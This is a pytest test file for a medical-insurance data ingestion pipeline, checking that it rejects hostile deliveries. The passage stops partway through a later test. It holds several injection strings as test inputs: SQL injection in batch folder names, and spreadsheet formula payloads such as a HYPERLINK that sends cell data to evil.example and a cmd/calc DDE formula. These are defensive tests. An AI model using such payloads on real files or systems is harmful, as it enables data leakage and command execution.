"""Hostile and broken deliveries (issue 21): each must be refused with its reason, recorded, and must not
stop, corrupt or leak anything else.  Real Delta tables through the real engine.

One test (or one parametrised case) per numbered defect of the issue:
1. values reaching SQL (batch folder names, manifest values) are validated and passed as data;
2. a damaged .gz or manifest rejects its batch and lets the rest land;
3. nothing outside the landing zone is read (linked files, linked batch folders);
4. a full snapshot that would empty a table is held for a steward, and the steward's decision is carried out;
5. exports cannot carry live spreadsheet formulas;
6. encoding mismatches are named; RFC 4180 quoted line breaks are records, not lines;
7. operators see every rejection (log, exit code), row counts are whole numbers, refusals are logged once;
8. the hostile classes of issue 20 not covered above: repeated column names, an empty file, a manifest of
   gigabytes, fields of absurd length, values that look like SQL or HTML.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest
from landing import delta_versions, rewrite_file, table_state, write_batch

from yibao.ingestion.ingest import ingest

PSN_HEADER = ("psn_no,psn_name,gend,brdy,naty,psn_cert_type,certno,tel,surv_stas,hsreg_addr,hsreg_admdvs,"
              "resd_addr,resd_admdvs,hsreg_book_no")
SETL_HEADER = ("setl_id,mdtrt_id,psn_no,certno,insutype,med_type,fixmedins_code,atddr_no,begndate,enddate,setl_time,"
               "dise_codg,medfee_sumamt,fulamt_ownpay_amt,hifp_pay,acct_pay,psn_cash_pay,insu_admdvs,mdtrt_admdvs,"
               "refd_setl_flag")
HSREG_HEADER = "certno,psn_name,gend,brdy,naty,hsreg_admdvs,hsreg_addr,hsreg_book_no,hsreg_stas,cancel_date"
RESD_HEADER = "certno,psn_name,gend,brdy,resd_admdvs,resd_addr,issue_date,expire_date"
DEATH_HEADER = "certno,psn_name,death_date,admdvs"


def psn(no: str, name: str = "张三", addr: str = "陕西省西安市新城区", brdy: str = "1985-01-01") -> str:
    return f"{no},{name},1,{brdy},01,01,610102198501011234,13800000000,1,{addr},610102,{addr},610102,B{no}"


def setl(sid: str, amount: str = "100.00") -> str:
    return (f"{sid},M{sid},P1,610102198501011234,390,11,H001,D01,2026-10-01,2026-10-01,2026-10-01 10:00:00,J06.9,"
            f"{amount},0,60.00,0,{amount},610100,610100,0")


def hsreg(i: int, brdy: str = "1985-01-01") -> str:
    return f"61010219850101{i:04d},张{i},1,{brdy},01,610102,陕西省西安市,B{i},1,"


def resd(i: int) -> str:
    return f"61010219900101{i:04d},李{i},2,1990-01-01,610102,西安,2025-01-01,2027-01-01"


def _catalog(settings):
    from yibao.catalog import Catalog
    from yibao.engine import spark_session
    return Catalog(spark_session(settings), settings)


def held_at_door(cat) -> list[dict]:
    from yibao.ingestion.ingest import held_at_door as held
    return held(cat)


def _police_snapshot(settings, n: int = 4) -> None:
    write_batch(settings.landing, "police", "20261101-001",
                {"hsreg_psn": [HSREG_HEADER] + [hsreg(i) for i in range(n)], "resd_permit": [RESD_HEADER, resd(1)]})


# ------------------------------------------------------------------------------------------------ 1. SQL

def test_1_batch_folder_name_cannot_reach_sql(settings, read):
    """The folder `20261102-999' OR '1'='1` used to delete another batch's quarantine rows."""
    write_batch(settings.landing, "medins", "20261101-001",
                {"setl": [SETL_HEADER, setl("S1"), setl("S2", amount="x"), setl("S3", amount="y")]})
    hostile = "20261102-999' OR '1'='1"
    write_batch(settings.landing, "medins", hostile, {"setl": [SETL_HEADER, setl("S9"), setl("S8", amount="z")]})
    summary = ingest(settings)
    q = read("meta", "quarantine", "line_number")          # the other batch's refused rows are all still there
    assert [(r["batch_id"], r["line_number"]) for r in q] == [("20261101-001", 3), ("20261101-001", 4)]
    assert summary.batches_applied == ["medins/20261101-001"]
    [(label, reason)] = summary.batches_rejected
    assert label == f"medins/{hostile}" and reason.startswith(f"folder name {hostile!r} is not a valid batch id")
    assert [r["setl_id"] for r in read("bronze", "medins__setl")] == ["S1"]
    batches = {r["batch_id"]: r for r in read("meta", "ingest_batch")}
    assert batches[hostile]["status"] == "rejected"          # recorded, exactly as named, as data
    before = delta_versions(settings)
    assert ingest(settings).batches_skipped == ["medins/20261101-001", f"medins/{hostile}"]
    assert delta_versions(settings) == before


def test_1_delete_where_takes_values_as_data(settings):
    cat = _catalog(settings)
    rows = [("medins", "x' OR '1'='1", "setl", None), ("medins", "b", "setl", None), ("tax", "b", "setl", "gate.r")]
    cat.overwrite(cat.spark.createDataFrame(rows, "source string, batch_id string, source_table string, rule string"),
                  "meta", "t")
    cat.delete_where("meta", "t", {"source": "medins", "batch_id": "x' OR '1'='1", "rule": None})
    from pyspark.sql import functions as F
    cat.delete_where("meta", "t", (F.col("source") == "tax") & F.col("rule").startswith("gate."))
    assert [tuple(r) for r in cat.read("meta", "t").collect()] == [("medins", "b", "setl", None)]
    with pytest.raises(TypeError):
        cat.delete_where("meta", "t", "source = 'medins'")      # SQL text is no longer accepted


@pytest.mark.parametrize("name", ["x' OR '1'='1.csv", "psn_info.txt", "other.csv"])
def test_1_manifest_file_name_must_be_the_contracts(settings, read, name):
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]})
    rewrite_file(batch, "psn_info", (batch / "psn_info.csv").read_bytes(), name=name)
    summary = ingest(settings)
    assert summary.batches_rejected == [
        ("medins/20261101-001", f"file name {name!r} must be psn_info.csv or psn_info.csv.gz")]
    assert not _catalog(settings).exists("bronze", "medins__psn_info")


# --------------------------------------------------------------------------------------- 2. broken input

def _truncated(gz: bytes) -> bytes:
    return gz[: len(gz) // 2]


def _corrupt(gz: bytes) -> bytes:
    return gz[:10] + bytes([0xFF] * 16) + gz[26:]


def _not_gzip(gz: bytes) -> bytes:
    return b"psn_no,psn_name\nthis is no gzip file\n"


@pytest.mark.parametrize("damage, error", [(_truncated, "EOFError"), (_corrupt, "error"), (_not_gzip, "BadGzipFile")])
def test_2_damaged_gzip_rejects_its_batch_and_the_rest_lands(settings, read, damage, error):
    lines = [PSN_HEADER] + [psn(f"P{i}") for i in range(200)]
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines})
    raw = (batch / "psn_info.csv").read_bytes()
    rewrite_file(batch, "psn_info", damage(gzip.compress(raw)), name="psn_info.csv.gz")
    _police_snapshot(settings)
    summary = ingest(settings)                                 # no exception: the run goes on
    assert summary.batches_applied == ["police/20261101-001"]
    [(label, reason)] = summary.batches_rejected
    assert label == "medins/20261101-001"
    assert reason.startswith(f"file psn_info.csv.gz: not a readable gzip file ({error}")
    batches = {r["source"]: r for r in read("meta", "ingest_batch")}
    assert batches["medins"]["status"] == "rejected" and batches["medins"]["reason"] == reason
    assert len(read("bronze", "police__hsreg_psn")) == 4
    assert ingest(settings).batches_skipped == ["medins/20261101-001", "police/20261101-001"]   # recorded once


def test_2_deeply_nested_manifest_rejects_its_batch(settings, read):
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]})
    (batch / "_manifest.json").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    _police_snapshot(settings)
    summary = ingest(settings)
    assert summary.batches_rejected == [("medins/20261101-001", "manifest is not valid JSON: nested too deeply")]
    assert summary.batches_applied == ["police/20261101-001"]


def test_2_record_too_long_to_parse_rejects_its_batch(settings, read):
    """A record longer than the parser's block used to fail the engine job, on every run."""
    lines = [PSN_HEADER, psn("P1"), psn("P2", addr="西" * (6 << 20)), psn("P3")]     # 18 MiB of UTF-8 text
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines})
    _police_snapshot(settings)
    summary = ingest(settings)
    assert summary.batches_rejected == [("medins/20261101-001", "file psn_info.csv: the record on line 3 is longer "
                                                                 "than 8 MiB")]
    assert summary.batches_applied == ["police/20261101-001"]


def test_2_unreadable_header_rejects_its_file(settings, read):
    """A header field beyond the csv module's limit used to raise out of the manifest check."""
    write_batch(settings.landing, "medins", "20261101-001", {
        "psn_info": [PSN_HEADER + "," + "x" * 200_000, psn("P1") + ",1"],
        "fixmedins": ["fixmedins_code,fixmedins_name,fixmedins_type,hosp_lv,admdvs", "H001,医院,1,1,610100"]})
    summary = ingest(settings)
    assert summary.files_rejected == [("medins/20261101-001/psn_info.csv", "header row cannot be read (field "
                                                                           "larger than field limit (131072))")]
    assert [r["fixmedins_code"] for r in read("bronze", "medins__fixmedins")] == ["H001"]


# ------------------------------------------------------------------------------------------ 3. symlinks

@pytest.mark.parametrize("linked, reason", [
    ("psn_info.csv", "file psn_info.csv is a symbolic link: nothing outside the landing zone is read"),
    ("_manifest.json", "manifest _manifest.json is a symbolic link: nothing outside the landing zone is read")])
def test_3_linked_file_is_not_read(settings, read, tmp_path, linked, reason):
    """A valid file outside the landing zone, linked in with a matching manifest, used to land."""
    outside = tmp_path / "outside"
    staged = write_batch(outside, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1"), psn("P2")]})
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1"), psn("P2")]})
    (batch / linked).unlink()
    (batch / linked).symlink_to(staged / linked)
    summary = ingest(settings)
    assert summary.batches_rejected == [("medins/20261101-001", reason)]
    assert not _catalog(settings).exists("bronze", "medins__psn_info")
    assert {r["status"] for r in read("meta", "ingest_batch")} == {"rejected"}


def test_3_linked_batch_folder_is_not_read(settings, read, tmp_path):
    outside = tmp_path / "outside"
    staged = write_batch(outside, "police", "20261101-001", {"hsreg_psn": [HSREG_HEADER, hsreg(1)]})
    (settings.landing / "police").mkdir(parents=True)
    (settings.landing / "police" / "20261101-001").symlink_to(staged, target_is_directory=True)
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]})
    summary = ingest(settings)
    assert summary.batches_rejected == [
        ("police/20261101-001", "batch folder is a symbolic link: nothing outside the landing zone is read")]
    assert summary.batches_applied == ["medins/20261101-001"]
    assert not _catalog(settings).exists("bronze", "police__hsreg_psn")
    batches = {r["source"]: r["status"] for r in read("meta", "ingest_batch")}
    assert batches == {"police": "rejected", "medins": "applied"}
    assert "police/20261101-001" in ingest(settings).batches_skipped


# ------------------------------------------------------------------------------- 4. shrinking snapshots

HELD_REASON = ("full snapshot would remove 4 of 4 rows (100%, threshold 50%); held for a steward: "
               "yibao quality release police/hsreg_psn 20261102-001 --reason ...")


def _hold_header_only(settings) -> Path:
    _police_snapshot(settings)
    ingest(settings)
    return write_batch(settings.landing, "police", "20261102-001",
                       {"hsreg_psn": [HSREG_HEADER], "resd_permit": [RESD_HEADER, resd(2)]})


def test_4_header_only_full_snapshot_is_held_not_applied(settings, read):
    batch = _hold_header_only(settings)
    summary = ingest(settings)
    assert summary.files_held == [("police/20261102-001/hsreg_psn.csv", HELD_REASON)]
    assert summary.batches_applied == ["police/20261102-001"]
    assert sorted(r["certno"] for r in read("bronze", "police__hsreg_psn")) == [hsreg(i)[:18] for i in range(4)]
    assert [r["certno"] for r in read("bronze", "police__resd_permit")] == [resd(2)[:18]]   # the rest lands
    log = {(r["batch_id"], r["source_table"]): r for r in read("meta", "ingest_log")}
    held = log[("20261102-001", "hsreg_psn")]
    assert (held["status"], held["reason"], held["rows_before"], held["rows_landed"]) == ("held", HELD_REASON, 4, 0)
    assert log[("20261102-001", "resd_permit")]["status"] == "applied"
    b = {r["batch_id"]: r for r in read("meta", "ingest_batch")}["20261102-001"]
    assert (b["status"], b["reason"]) == ("applied", "table(s) held: hsreg_psn")
    kept = settings.warehouse / "_held" / "police" / "20261102-001"
    assert (kept / "hsreg_psn.csv").read_bytes() == (batch / "hsreg_psn.csv").read_bytes()
    assert (kept / "_manifest.json").read_bytes() == (batch / "_manifest.json").read_bytes()
    assert held_at_door(_catalog(settings)) == [dict(source="police", source_table="hsreg_psn",
                                                      batch_id="20261102-001", file="hsreg_psn.csv",
                                                      reason=HELD_REASON, rows_before=4, rows_delivered=0)]
    before = delta_versions(settings)
    ingest(settings)                                           # nothing decided: nothing changes
    assert delta_versions(settings) == before


def test_4_fully_quarantined_full_snapshot_is_held_and_its_rows_kept(settings, read):
    _police_snapshot(settings)
    ingest(settings)
    write_batch(settings.landing, "police", "20261102-001",
                {"hsreg_psn": [HSREG_HEADER] + [hsreg(i, brdy="19850231") for i in range(10, 14)]})
    summary = ingest(settings)
    assert summary.files_held == [("police/20261102-001/hsreg_psn.csv", HELD_REASON)]
    assert len(read("bronze", "police__hsreg_psn")) == 4
    q = read("meta", "quarantine", "line_number")
    assert [(r["batch_id"], r["line_number"]) for r in q] == [("20261102-001", n) for n in (2, 3, 4, 5)]
    log = {r["batch_id"]: r for r in read("meta", "ingest_log") if r["source_table"] == "hsreg_psn"}
    assert (log["20261102-001"]["status"], log["20261102-001"]["rows_quarantined"]) == ("held", 4)


def test_4_shrink_share_is_configurable(settings, read):
    _police_snapshot(settings)
    ingest(settings)
    write_batch(settings.landing, "police", "20261102-001", {"hsreg_psn": [HSREG_HEADER, hsreg(0)]})  # removes 75%
    summary = ingest(settings.with_(snapshot_shrink_hold=0.8))
    assert not summary.files_held
    assert [r["certno"] for r in read("bronze", "police__hsreg_psn")] == [hsreg(0)[:18]]


def test_4_steward_release_applies_the_kept_copy_after_the_landing_zone_is_purged(settings, read):
    import shutil

    from yibao.decisions import record
    batch = _hold_header_only(settings)
    ingest(settings)
    decision = record(_catalog(settings), "release", "police", "hsreg_psn", "20261102-001", "户籍迁出，确认清空",
                      user="steward1")
    shutil.rmtree(batch)                                        # the landing zone was purged
    summary = ingest(settings)
    assert [label for label, _ in summary.files_released] == ["police/20261102-001/hsreg_psn.csv"]
    assert read("bronze", "police__hsreg_psn") == []
    log = {r["batch_id"]: r for r in read("meta", "ingest_log") if r["source_table"] == "hsreg_psn"}
    assert log["20261102-001"]["status"] == "applied"
    assert log["20261102-001"]["reason"] == (f"released by steward decision {decision['decision_id']} "
                                             f"(steward1: 户籍迁出，确认清空)")
    assert held_at_door(_catalog(settings)) == []
    before = delta_versions(settings)
    ingest(settings)
    assert delta_versions(settings) == before


def test_4_steward_hold_and_a_later_batch_keep_it_out(settings, read):
    from yibao.decisions import record
    _hold_header_only(settings)
    ingest(settings)
    record(_catalog(settings), "hold", "police", "hsreg_psn", "20261102-001", "公安数据不完整", user="steward2")
    ingest(settings)
    [held] = held_at_door(_catalog(settings))
    assert held["reason"] == "held by steward steward2: 公安数据不完整"
    write_batch(settings.landing, "police", "20261103-001",
                {"hsreg_psn": [HSREG_HEADER] + [hsreg(i) for i in range(3)]})
    ingest(settings)                                           # a later batch of the table is applied
    record(_catalog(settings), "release", "police", "hsreg_psn", "20261102-001", "改主意了", user="steward2")
    ingest(settings)
    assert len(read("bronze", "police__hsreg_psn")) == 3       # the later batch, not the released empty one
    [held] = held_at_door(_catalog(settings))
    assert held["reason"].startswith("can no longer be applied: the later batch 20261103-001 of this table")


@pytest.mark.parametrize("fault", ["quarantined:1", "file:1"])
def test_4_release_killed_then_rerun_equals_one_clean_run(tmp_path, fault):
    from yibao.config import Settings
    from yibao.decisions import record
    clean, crashed = Settings(data_root=tmp_path / "clean"), Settings(data_root=tmp_path / "crashed")
    decision = None
    for s in (clean, crashed):
        _hold_header_only(s)
        ingest(s)
        if decision is None:
            decision = record(_catalog(s), "release", "police", "hsreg_psn", "20261102-001", "确认", user="s1")
        else:   # the same decision row in both warehouses
            from yibao.decisions import DDL
            cat = _catalog(s)
            cat.ensure("meta", "steward_decision", DDL)
            cat.append(cat.spark.createDataFrame([tuple(decision.values())], DDL), "meta", "steward_decision")
    ingest(clean)
    env = dict(os.environ, YIBAO_DATA_ROOT=str(crashed.data_root), YIBAO_FAULT_AT=fault, SPARK_REMOTE="")
    killed = subprocess.run([sys.executable, "-m", "yibao.cli", "ingest"], env=env, capture_output=True, text=True)
    assert killed.returncode == -9, killed.stderr[-2000:]   # SIGKILL
    env.pop("YIBAO_FAULT_AT")
    rerun = subprocess.run([sys.executable, "-m", "yibao.cli", "ingest"], env=env, capture_output=True, text=True)
    assert rerun.returncode == 0, rerun.stderr[-2000:]
    assert table_state(crashed) == table_state(clean)


@pytest.mark.parametrize("fault", ["quarantined:3", "file:3", "quarantined:4"])   # batch 2's first and second file
def test_4_hold_killed_then_rerun_equals_one_clean_run(tmp_path, fault):
    from yibao.config import Settings
    clean, crashed = Settings(data_root=tmp_path / "clean"), Settings(data_root=tmp_path / "crashed")
    for s in (clean, crashed):
        _police_snapshot(s)
        write_batch(s.landing, "police", "20261102-001", {"hsreg_psn": [HSREG_HEADER, hsreg(9)],
                                                          "resd_permit": [RESD_HEADER, resd(2)]})
    ingest(clean)
    env = dict(os.environ, YIBAO_DATA_ROOT=str(crashed.data_root), YIBAO_FAULT_AT=fault, SPARK_REMOTE="")
    killed = subprocess.run([sys.executable, "-m", "yibao.cli", "ingest"], env=env, capture_output=True, text=True)
    assert killed.returncode == -9, killed.stderr[-2000:]   # SIGKILL
    env.pop("YIBAO_FAULT_AT")
    rerun = subprocess.run([sys.executable, "-m", "yibao.cli", "ingest"], env=env, capture_output=True, text=True)
    assert rerun.returncode == 0, rerun.stderr[-2000:]
    assert table_state(crashed) == table_state(clean)
    assert [h["source_table"] for h in held_at_door(_catalog(clean))] == ["hsreg_psn"]


# -------------------------------------------------------------------------------------------- 5. exports

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1"]


def _suspects(settings) -> None:
    from yibao.fraud.suspects import SUSPECT_SCHEMA
    cat = _catalog(settings)
    now = dt.datetime(2026, 11, 1)
    rows = [(f"S{i}", "institution", f"H{i:03d}", name, "610100", 90.0 - i, "高", i + 1, "R09_PROVIDER_OUTLIER",
             "机构异常", 0.9, 0.5, None, -12.5, [f"X{i}"], "{}", name, "待核查", "m1", now, name, 0.9, None, None)
            for i, name in enumerate(HOSTILE_NAMES)]
    cat.overwrite(cat.spark.createDataFrame(rows, SUSPECT_SCHEMA), "gold", "fraud_suspect")
    cat.overwrite(cat.spark.createDataFrame([("p1", "610102198501011234", "13800000000")],
                                            "person_id string, certno string, tel string"), "gold", "person_master")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_5_export_cells_cannot_run_as_formulas(settings, tmp_path, fmt):
    from yibao.fraud.suspects import export
    _suspects(settings)
    out = tmp_path / f"suspects.{fmt}"
    export(settings, out, fmt=fmt, role="auditor_full", user="审计")
    if fmt == "csv":
        with open(out, newline="", encoding="utf-8-sig") as fh:
            rows = list(csv.reader(fh))
        header, body = rows[0], rows[1:]
        names = [r[header.index("姓名/名称")] for r in body]
        amounts = [r[header.index("涉及基金(元)")] for r in body]
    else:
        import openpyxl
        ws = openpyxl.load_workbook(out).active
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        header = [c.value for c in ws[1]]
        names = [ws.cell(row=i, column=header.index("姓名/名称") + 1).value for i in range(2, ws.max_row + 1)]
        amounts = [ws.cell(row=i, column=header.index("涉及基金(元)") + 1).value for i in range(2, ws.max_row + 1)]
    # (xlsx is XML: a CR in a cell reads back as LF)
    assert names == ["'" + (n if fmt == "csv" else n.replace("\r", "\n")) for n in HOSTILE_NAMES]
    assert {str(a) for a in amounts} == {"-12.5"}               # numbers stay numbers


def test_5_escape_cell_follows_owasp():
    from yibao.export import escape_cell
    assert [escape_cell(v) for v in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "西安", "a=b", "", None, -1.5, 3)] == [
        "'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "西安", "a=b", "", None, -1.5, 3]


# --------------------------------------------------------------------------------- 6. encoding, RFC 4180

@pytest.mark.parametrize("bom, reason", [
    (b"\xef\xbb\xbf", "declared gbk but the file is UTF-8 (BOM)"),
    (b"", "declared gbk but the file is UTF-8 (valid UTF-8 multibyte text)")])
def test_6_utf8_file_declared_gbk_is_refused_with_its_reason(settings, read, bom, reason):
    batch = write_batch(settings.landing, "civil_affairs", "20261101-001", {
        "death_cremation": [DEATH_HEADER, "610102198501011234,王小明,2026-03-04,610102"],
        "assistance_obj": ["certno,aid_type,psn_name,admdvs,begn_date,end_date",
                           "610102198501011234,1,王小明,610102,2026-01-01,"]}, encoding="gbk")
    utf8 = ("\n".join([DEATH_HEADER, "610102198501011234,王小明,2026-03-04,610102",
                       "610102198501011235,李四,2026-03-05,610102"]) + "\n").encode("utf-8")
    rewrite_file(batch, "death_cremation", bom + utf8, rows=2)
    summary = ingest(settings)
    assert summary.files_rejected == [("civil_affairs/20261101-001/death_cremation.csv", reason)]
    assert not _catalog(settings).exists("bronze", "civil_affairs__death_cremation")
    assert [r["psn_name"] for r in read("bronze", "civil_affairs__assistance_obj")] == ["王小明"]   # GBK, decoded


def test_6_utf8_bom_on_a_file_declared_utf8_is_read_and_not_part_of_the_first_column(settings, read):
    """Excel writes UTF-8 with a byte-order mark: the file is read, and the mark is not part of the first column's
    name or its first value."""
    lines = [PSN_HEADER] + [psn(f"P{i}", name=n) for i, n in enumerate(["张三", "李四"])]
    batch = write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines})
    rewrite_file(batch, "psn_info", b"\xef\xbb\xbf" + ("\r\n".join(lines) + "\r\n").encode("utf-8"))
    summary = ingest(settings)
    assert not summary.files_rejected and not summary.batches_rejected and summary.rows_landed == 2
    got = {r["psn_no"]: r["psn_name"] for r in read("bronze", "medins__psn_info")}
    assert got == {"P0": "张三", "P1": "李四"}                        # CRLF line ends: no stray CR in the values


def test_6_gbk_file_declared_utf8_is_refused_with_its_reason(settings, read):
    lines = [PSN_HEADER] + [psn(f"P{i}", name=n) for i, n in enumerate(["张三", "李四", "王五", "赵六"])]
    batch = write_batch(settings.landing, "medins", "20261101-001",
                        {"psn_info": lines, "setl": [SETL_HEADER, setl("S1")]})
    rewrite_file(batch, "psn_info", ("\n".join(lines) + "\n").encode("gbk"))
    summary = ingest(settings)
    assert summary.files_rejected == [("medins/20261101-001/psn_info.csv",
                                       "declared utf-8 but the file is not UTF-8: 4 of the 4 lines with non-ASCII "
                                       "text checked are not valid UTF-8; it reads as GBK: declare encoding gbk")]
    assert not _catalog(settings).exists("bronze", "medins__psn_info")
    assert not _catalog(settings).exists("meta", "quarantine") or read("meta", "quarantine") == []
    assert [r["setl_id"] for r in read("bronze", "medins__setl")] == ["S1"]


def test_6_quoted_line_breaks_are_one_record_with_its_first_line(settings, read):
    lines = [PSN_HEADER, psn("P1"), psn("P2", addr='"陕西省西安市\n新城区, 解放路 ""1号"""'),
             psn("P3", brdy="x"), psn("P4", addr='"a\r\nb\nc"'), psn("P5")]
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines},
                file_overrides={"psn_info": {"rows": 5}})
    summary = ingest(settings)
    assert summary.batches_applied == ["medins/20261101-001"], summary.batches_rejected
    rows = {r["psn_no"]: r for r in read("bronze", "medins__psn_info")}
    # each address appears twice in a row (hsreg_addr, resd_addr): P2 spans lines 3-5, P4 lines 7-11
    assert {k: r["_line_number"] for k, r in rows.items()} == {"P1": 2, "P2": 3, "P4": 7, "P5": 12}
    assert rows["P2"]["hsreg_addr"] == '陕西省西安市\n新城区, 解放路 "1号"'
    assert rows["P4"]["resd_addr"] == "a\r\nb\nc"
    [q] = read("meta", "quarantine")
    assert (q["line_number"], q["reason"]) == (6, "brdy: 'x' is not a date (YYYY-MM-DD or YYYYMMDD)")


def test_6_quoted_line_breaks_stay_whole_across_parallel_ranges(settings, read, monkeypatch):
    import yibao.ingestion.manifest as manifest
    monkeypatch.setattr(manifest, "SPLIT_BYTES", 200)          # many ranges, split points near multi-line records
    lines, expected, line = [PSN_HEADER], {}, 2
    for i in range(60):
        addr = f'"第{i}行\n第二行\n第三行"' if i % 3 == 0 else "陕西省"
        lines.append(psn(f"P{i}", addr=addr))
        expected[f"P{i}"] = line
        line += 5 if i % 3 == 0 else 1          # the address appears twice in a row
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines},
                file_overrides={"psn_info": {"rows": 60}})
    summary = ingest(settings)
    assert summary.batches_applied == ["medins/20261101-001"], summary.batches_rejected
    rows = read("bronze", "medins__psn_info")
    assert {r["psn_no"]: r["_line_number"] for r in rows} == expected
    assert all(r["hsreg_addr"].count("\n") == 2 for r in rows if int(r["psn_no"][1:]) % 3 == 0)
    assert not _catalog(settings).exists("meta", "quarantine") or read("meta", "quarantine") == []


def test_6_unclosed_quote_rejects_the_batch_with_its_line(settings):
    lines = [PSN_HEADER, psn("P1"), psn("P2", name='"张三'), psn("P3")]
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines})
    summary = ingest(settings)
    assert summary.batches_rejected == [
        ("medins/20261101-001", "file psn_info.csv: the quoted field opened on line 3 is never closed")]


def test_6_record_scanner_counts_what_the_parser_reads():
    """Random quoting, well-formed or not, cut into random blocks: the scanner's record ends are the
    parser's records."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    from yibao.ingestion.records import RecordScanner
    rng = random.Random(21)
    pieces = ["a", "b", ",", ",", '"', '""', "\n", "\r\n", '"x\ny"', '"p,q"', "中"]
    checked = 0
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        data = text.encode("utf-8")
        scanner, records, pos = RecordScanner(","), 0, 0
        while pos < len(data):
            step = rng.randint(1, 7)
            records += scanner.feed(data[pos:pos + step]).n_records
            pos += step
        if scanner.inside_quotes:
            continue                                           # refused with its line (tested above)
        records += 1 if data and not data.endswith(b"\n") else 0
        seen = []
        table = pacsv.read_csv(io.BytesIO(data), read_options=pacsv.ReadOptions(
            column_names=["c"] * 1, use_threads=False), parse_options=pacsv.ParseOptions(
            newlines_in_values=True, ignore_empty_lines=False, invalid_row_handler=lambda r: seen.append(r) or "skip"),
            convert_options=pacsv.ConvertOptions(column_types={"c": pa.string()}))
        assert records == table.num_rows + len(seen), repr(text)
        checked += 1
    assert checked > 1000


# ------------------------------------------------------------------------------------- 7. operators

def _cli(monkeypatch, settings, *args):
    from typer.testing import CliRunner

    from yibao.cli import app
    monkeypatch.setenv("YIBAO_DATA_ROOT", str(settings.data_root))
    monkeypatch.setenv("COLUMNS", "400")
    return CliRunner().invoke(app, list(args))


def test_7_log_shows_whole_batch_rejections(settings, monkeypatch):
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]},
                file_overrides={"psn_info": {"rows": 7}})
    _police_snapshot(settings)
    ingest(settings)
    out = _cli(monkeypatch, settings, "log")
    assert out.exit_code == 0, out.output
    line = next(l for l in out.output.splitlines() if "20261101-001" in l and "medins" in l)
    assert "(batch)" in line and "rejected" in line and "file psn_info.csv: 1 data rows, the manifest says 7" in line
    assert any("police" in l and "hsreg_psn" in l and "applied" in l for l in out.output.splitlines())


def test_7_ingest_prints_a_summary_and_strict_exits_1_on_rejections(settings, monkeypatch):
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]},
                file_overrides={"psn_info": {"rows": 7}})
    strict = _cli(monkeypatch, settings, "ingest", "--strict")
    assert strict.exit_code == 1, strict.output
    assert "rejected batch medins/20261101-001: file psn_info.csv: 1 data rows, the manifest says 7" in strict.output
    _police_snapshot(settings)
    relaxed = _cli(monkeypatch, settings, "ingest")        # a rejection recorded earlier fails nothing
    assert relaxed.exit_code == 0, relaxed.output
    assert "1 batch(es) applied, 1 already taken, 0 rejected" in relaxed.output
    write_batch(settings.landing, "tax", "20261101-001", {"taxpayer": ["certno,emp_uscc,psn_name,last_tax_ym"]},
                file_overrides={"taxpayer": {"rows": 1}})
    plain = _cli(monkeypatch, settings, "ingest")
    assert plain.exit_code == 0 and "rejected batch tax/20261101-001" in plain.output


@pytest.mark.parametrize("rows", [5.9, "5", True, -1])
def test_7_manifest_rows_must_be_a_whole_number(settings, rows):
    lines = [PSN_HEADER] + [psn(f"P{i}") for i in range(1 if rows is True else 5)]
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": lines},
                file_overrides={"psn_info": {"rows": rows}})
    summary = ingest(settings)
    assert summary.batches_rejected == [("medins/20261101-001", "manifest file entry 1 (psn_info.csv): rows must be "
                                                                 f"a whole number of data rows, got {rows!r}")]


def test_7_refused_redelivery_is_logged_once(settings, read):
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1")]})
    ingest(settings)
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P1"), psn("P2")]})
    first = ingest(settings)
    assert [label for label, _ in first.batches_rejected] == ["medins/20261101-001"]
    before = delta_versions(settings)
    again = ingest(settings)
    assert not again.batches_rejected and again.batches_skipped == ["medins/20261101-001"]
    assert delta_versions(settings) == before
    refusals = [r for r in read("meta", "ingest_log") if r["source_table"] == "(batch)"]
    assert len(refusals) == 1 and refusals[0]["reason"].startswith("re-delivered with different content")
    write_batch(settings.landing, "medins", "20261101-001", {"psn_info": [PSN_HEADER, psn("P3")]})
    assert [label for label, _ in ingest(settings).batches_rejected] == ["medins/20261101-001"]   # new content


def test_hostile_names_print_without_breaking_the_console(settings, monkeypatch):
    """Folder names are shown as text, never as console markup."""
    write_batch(settings.landing, "medins", "[bold]x", {"psn_info": [PSN_HEADER, psn("P1")]})
    out = _cli(monkeypatch, settings, "ingest")
    assert out.exit_code == 0, out.output
    assert "rejected batch medins/[bold]x: folder name '[bold]x' is not a valid batch id" in out.output
    assert _cli(monkeypatch, settings, "log").exit_code == 0


# ------------------------------------------------------------------------- 8. issue 20's remaining classes

def test_8_repeated_column_names_reject_their_file(settings, read):
    header = PSN_HEADER.replace(",tel,", ",psn_name,")          # psn_name twice: which one is the name?
    write_batch(settings.landing, "medins", "20261101-001", {
        "psn_info": [header, psn("P1")],
